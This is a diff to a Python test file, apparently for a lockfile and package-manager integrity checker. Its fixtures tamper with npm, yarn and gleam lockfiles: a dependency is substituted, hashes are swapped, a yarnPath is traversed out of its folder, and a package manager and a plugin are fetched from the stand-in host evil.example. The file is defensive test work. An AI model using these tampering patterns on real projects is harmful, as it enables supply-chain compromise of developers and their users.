@@ -137,7 +137,7 @@ V1 = json.dumps({"lockfileVersion": 1, "requires": True, "dependencies": {
     "left": {"version": "1.3.0", "resolved": LEFT, "integrity": sri("left")},
     "right": {"version": "2.0.0", "resolved": f"{REGISTRY}/right/-/right-2.0.0.tgz", "integrity": sri("right")}}}, indent=2) + "\n"
 fmt("npm, a second look", {**NPM, "one/package.json": NPM["package.json"], "one/package-lock.json": V1,
-                           ".yarn/releases/yarn-4.1.0.cjs": "yarn\n", ".yarnrc.yml": "yarnPath: .yarn/releases/yarn-4.1.0.cjs\n"}, [
+                           ".yarn/releases/yarn-4.1.0.cjs": "yarn\n", ".yarn/plugins/own.cjs": "own\n", ".yarnrc.yml": "yarnPath: .yarn/releases/yarn-4.1.0.cjs\n"}, [
     ("another package under the name", [(LOCK, '"version": "1.3.0",', '"name": "evil",\n      "version": "1.3.0",'),
                                         (LOCK, LEFT, f"{REGISTRY}/evil/-/evil-1.3.0.tgz"), (LOCK, sri("left"), sri("evil"))], ["shadow"]),
     ("the same where somebody asks for that", [(LOCK, '"version": "1.3.0",', '"name": "lift",\n      "version": "1.3.0",'),
@@ -172,6 +172,11 @@ fmt("npm, a second look", {**NPM, "one/package.json": NPM["package.json"], "one/
     ("a way out of yarn's folder", [(".yarnrc.yml", "releases/yarn-4.1.0.cjs", "releases/../../tools/yarn.cjs")], ["protection-weakened"]),
     ("yarn's next version", [(".yarnrc.yml", "4.1.0", "4.2.0"), (".yarn/releases/yarn-4.2.0.cjs", None, "yarn 4.2\n")], PASS),
     ("other bytes of the same yarn", [(".yarn/releases/yarn-4.1.0.cjs", None, "evil\n")], ["wrapper-changed"]),
+    ("a package manager by its URL", [("package.json", '{"name": "shop",', '{"name": "shop", "packageManager": "yarn@https://evil.example/yarn.js",')],
+     ["protection-weakened"]),
+    ("a plugin where yarn puts its own", [(".yarnrc.yml", None, "yarnPath: .yarn/releases/yarn-4.1.0.cjs\nplugins:\n  - path: .yarn/plugins/evil.cjs\n    spec: https://evil.example/evil.js\n"),
+                                          (".yarn/plugins/evil.cjs", None, "evil\n")], ["protection-weakened"]),
+    ("other bytes of a plugin", [(".yarn/plugins/own.cjs", None, "evil\n")], ["wrapper-changed"]),
     ("a plugin of yarn", [(".yarnrc.yml", None, "yarnPath: .yarn/releases/yarn-4.1.0.cjs\nplugins:\n  - path: tools/evil.cjs\n    spec: evil\n")],
      ["protection-weakened"]),
 ])
@@ -585,6 +590,7 @@ GLEAM = (f'packages = [\n  {{ name = "left", version = "1.3.0", build_tools = ["
 fmt("gleam", {L: GLEAM}, [
     ("checksum changed", [(L, hexed("left").upper(), hexed("evil").upper())], ["hash-changed"]),
     ("checksum removed", [(L, f', outer_checksum = "{hexed("left").upper()}"', "")], ["hash-removed"]),
+    ("not to be told for one", [(L, None, "packages = 1\n")], INCOMPLETE),
     ("orphan", [(L, "]\n\n[req", f'  {{ name = "zebra", version = "1", source = "hex", requirements = [], outer_checksum = "{hexed("z")}" }},\n]\n\n[req')], ["orphan"]),
 ])
 
